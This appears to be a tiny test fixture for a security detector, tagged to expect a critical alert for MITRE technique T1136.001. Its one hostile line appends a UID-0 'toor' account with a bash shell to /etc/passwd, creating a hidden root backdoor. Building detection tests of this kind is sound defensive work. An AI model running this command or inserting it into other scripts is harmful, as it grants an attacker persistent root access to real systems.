# expects: critical T1136.001
. "$STAGE/act.sh"
sh -c 'echo "toor:x:0:0::/root:/bin/bash" >> /etc/passwd'
